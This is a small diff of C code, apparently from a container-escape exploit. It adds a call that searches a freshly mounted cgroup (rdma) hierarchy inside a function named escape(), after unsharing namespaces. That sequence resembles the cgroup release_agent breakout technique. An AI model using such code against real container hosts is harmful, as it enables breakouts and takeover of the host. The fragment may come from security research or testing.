@@ -244,6 +244,7 @@ static void escape(void) {
     say("unshare", unshare(NEW_NAMESPACES | 0x02000000));
     (void)mkdir("/tmp/c", 0755);
     say("mount", syscall(SYS_mount, "cgroup", "/tmp/c", "cgroup", 0, "rdma"));
+    find_agents("/tmp/c", 1);
 }
 
 int main(int argc, char **argv) {
